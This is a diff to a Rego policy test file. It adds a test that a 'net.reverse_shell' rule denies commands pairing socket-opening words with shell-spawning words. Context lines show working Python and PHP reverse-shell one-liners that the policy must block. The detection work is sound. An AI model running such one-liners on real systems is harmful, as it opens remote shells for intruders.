@@ -66,6 +66,17 @@ test_reverse_shell_wiring if {
 	allowed(bash([c("telnet", ["mail", "25"])]))
 }
 
+# Every pair of the code rule's words, in any case, and only in one
+# argument: the words_listed guards must let each through.
+test_reverse_shell_code_words if {
+	every s in ["socket", "FSockOpen", "TCPSocket", "net.connect", "createConnection", "/inet/tcp/", "/inet/udp/"] {
+		every r in ["dup2", "subprocess", "pty.spawn", "exec", "spawn", "System", "popen", "/bin/sh", "/bin/bash", "/bin/zsh", "/bin/dash", "/bin/ksh", "cmd.exe", "getline"] {
+			denied_by(bash([c("python3", ["-c", concat("", ["x = ", s, "(h); ", r, "(x)"])])]), "net.reverse_shell")
+		}
+	}
+	allowed(bash([c("node", ["-e", "net.connect(1)"]), c("echo", ["spawn"])]))
+}
+
 test_reverse_shell_code if {
 	denied_by(bash([c("python3", ["-c", "import socket,os;s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0)"])]), "net.reverse_shell")
 	denied_by(bash([c("php", ["-r", "$s=fsockopen('h',1);exec('/bin/sh -i <&3');"])]), "net.reverse_shell")
